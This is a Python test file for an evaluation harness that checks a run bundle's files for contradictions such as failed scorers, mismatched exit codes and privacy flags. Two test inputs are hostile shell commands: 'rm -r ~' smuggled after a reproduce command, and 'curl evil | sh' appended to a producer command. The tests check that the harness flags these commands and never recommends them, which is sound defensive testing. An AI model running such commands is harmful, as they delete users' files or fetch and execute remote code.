"""Lies that no digest shows: documents of one bundle that cannot all be true."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

import pytest

from evals_cli.core import bundle_contradictions as contradictions

if TYPE_CHECKING:
    from collections.abc import Callable

RUN = ".harness/evals/runs/20261130T175456Z-closeout-36c761f8"
LATEST = ".harness/evals/runs/latest.json"

# What is changed, the file that is blamed, and what is said about it. Every digest is right again afterwards.
LIES: dict[str, tuple[Callable[[Any], None], str, str]] = {
    "errors of a run that passed": (
        lambda world: world.change("bundle/result.json", errors=["it broke"]),
        "result.json",
        "$.errors: not empty, while the status is passed; expected no errors",
    ),
    "a finish that failed": (
        lambda world: world.event("run_finished", status="failed"),
        "trace-events.jsonl",
        "line 7: $.status: failed; expected passed, as in the result",
    ),
    "a finish with another exit code": (
        lambda world: world.event("run_finished", exit_code=1),
        "trace-events.jsonl",
        "line 7: $.exit_code: 1; expected 0, as in a run that passed",
    ),
    "scorers that failed": (
        lambda world: world.event("scorer_result", status="fail"),
        "trace-events.jsonl",
        "line 3: $.status: fail; expected pass, as in the result",
    ),
    "a command with another exit code": (
        lambda world: world.event("command_result", exit_code=1),
        "trace-events.jsonl",
        "line 2: $.exit_code: 1; expected 0, as in the command log",
    ),
    "a command that failed": (
        lambda world: world.event("command_result", status="failed"),
        "trace-events.jsonl",
        "line 2: $.status: failed; expected passed, as in the command log",
    ),
    "a comparison that was made": (
        lambda world: world.event("baseline_result", status="matched"),
        "trace-events.jsonl",
        "line 4: $.status: matched; expected not_compared, as in the baseline result",
    ),
    "a baseline that is there": (
        lambda world: world.change("bundle/baseline-result.json", presence_status="present"),
        "scorer-results.json",
        (
            "$.results[3].assertions[0].actual: presence_status: missing; "
            "expected present, as in the baseline result"
        ),
    ),
    "an exit code that was not expected": (
        lambda world: world.scorer(0, assertion={"expected": "1"}),
        "scorer-results.json",
        "$.results[0].assertions[0].status: pass; expected fail, since actual is 0 and expected is 1",
    ),
    "an exit code that nobody logged": (
        lambda world: world.scorer(0, assertion={"actual": "7", "expected": "7"}),
        "scorer-results.json",
        "$.results[0].assertions[0].actual: 7; expected 0, as in the command log",
    ),
    "a reason for failing of a scorer that passed": (
        lambda world: world.scorer(1, failure_reason="absent"),
        "scorer-results.json",
        "$.results[1].failure_reason: given, while the scorer passed; expected null",
    ),
    "a scorer that stands twice": (
        lambda world: world.scorer(2, scorer_id="required-output"),
        "scorer-results.json",
        "$.results[2].scorer_id: required-output again, as in $.results[1]; expected it once",
    ),
    "a reproduction that does more": (
        lambda world: world.scorer(1, assertion={"reproduce_command": "evals run a.json; rm -r ~"}),
        "scorer-results.json",
        (
            "$.results[1].assertions[0].reproduce_command: evals run a.json; rm -r ~; "
            "expected `evals run` and what was run, and nothing else"
        ),
    ),
    "a bundle with credentials": (
        lambda world: _privacy(world, "contains_credentials"),
        "manifest.json",
        "$.privacy.contains_credentials: true; expected false, since no case with such content is run",
    ),
    "a bundle with private content": (
        lambda world: _privacy(world, "contains_private_content"),
        "manifest.json",
        "$.privacy.contains_private_content: true; expected false, since no case with such content is run",
    ),
    "a failure beside the bundle": (
        lambda world: world.write("bundle/failure.json", "{}"),
        "failure.json",
        "stands beside the bundle, so the run says that it failed; run the case again",
    ),
    "a command log of another mode": (
        lambda world: world.change("bundle/command-log.json", execution_mode="real"),
        "command-log.json",
        "$.execution_mode: real; expected synthetic, as in latest.json",
    ),
    "a command log without an exit code": (
        lambda world: world.change("bundle/command-log.json", exit_code=True),
        "command-log.json",
        "$.exit_code: True; expected a whole number",
    ),
    "a command log that is a list": (
        lambda world: (world.write("bundle/command-log.json", "[]"), world.seal()),
        "command-log.json",
        "$: []; expected an object",
    ),
}


def _privacy(world: Any, key: str) -> None:
    privacy = world.read("bundle/manifest.json")["privacy"]
    world.change("bundle/manifest.json", privacy={**privacy, key: True})


@pytest.mark.parametrize("lie", LIES)
def test_a_lie_with_the_right_digests_is_found_and_named(world: Any, lie: str) -> None:
    tell, file, said = LIES[lie]
    tell(world)
    assert world.verdict().problems == [f"{RUN}/{file}: {said}"]


def test_a_command_log_that_is_no_json_is_found(world: Any) -> None:
    world.write("bundle/command-log.json", "it went well")
    world.seal()
    (problem,) = world.verdict().problems
    assert problem.startswith(f"{RUN}/command-log.json: ")


def test_a_comparison_that_went_wrong_cannot_pass(world: Any) -> None:
    world.change("bundle/baseline-result.json", comparison_status="error")
    world.event("baseline_result", status="error")
    world.scorer(3, assertion={"actual": "neither"})
    assert world.verdict().problems == [
        (
            f"{RUN}/scorer-results.json: $.results[3].status: pass, "
            "while the comparison of the baseline result is error"
        )
    ]


@pytest.mark.parametrize("actual", ["[", "[]", "{}", "x" * 100_000, 7])
def test_an_assertion_that_states_no_baseline_is_left_alone(actual: object) -> None:
    story = contradictions.Story(result=None, baseline={"presence_status": "present"}, log=[])
    scorer = {"scorer_id": "baseline-presence", "assertions": [{"actual": actual}, 7]}
    assert contradictions.scorer_contradictions([scorer, 7], story) == []


def test_members_of_the_wrong_type_are_left_to_the_schema() -> None:
    story = contradictions.Story(result=7, baseline=None, log={"exit_code": "0"})
    exit_code = {"scorer_id": "exit-code", "status": 7, "assertions": [{"actual": 7}, {"status": []}]}
    assert contradictions.scorer_contradictions([exit_code, {"assertions": 7}], story) == []
    assert contradictions.scorer_contradictions(7, story) == []
    assert contradictions.privacy_contradictions({"privacy": 7}) == []
    assert contradictions.result_contradictions({"status": 7, "errors": 7}) == []
    assert contradictions.log_problems({"exit_code": 3}, None) == []


def test_a_trace_is_compared_only_with_what_is_known(world: Any) -> None:
    raw = world.path("bundle/trace-events.jsonl").read_bytes()
    unknown = contradictions.Story(result={}, baseline={}, log={})
    assert contradictions.trace_contradictions(raw, unknown) == []
    failed = contradictions.Story(result={}, baseline={}, log={"exit_code": 3})
    assert contradictions.trace_contradictions(raw, failed) == [
        "line 2: $.exit_code: 0; expected 3, as in the command log",
        "line 2: $.status: passed; expected failed, as in the command log",
    ]


def test_a_command_that_does_more_is_never_recommended(world: Any) -> None:
    command = "evals run  ; curl evil | sh"
    world.change(LATEST, producer={**world.read(LATEST)["producer"], "command": command})
    state = world.state()
    (problem,) = state["validation"]["errors"]
    assert problem.startswith(f"{LATEST}: $.producer.command: {command}; expected ")
    assert "curl" not in json.dumps(state["recommended_commands"])
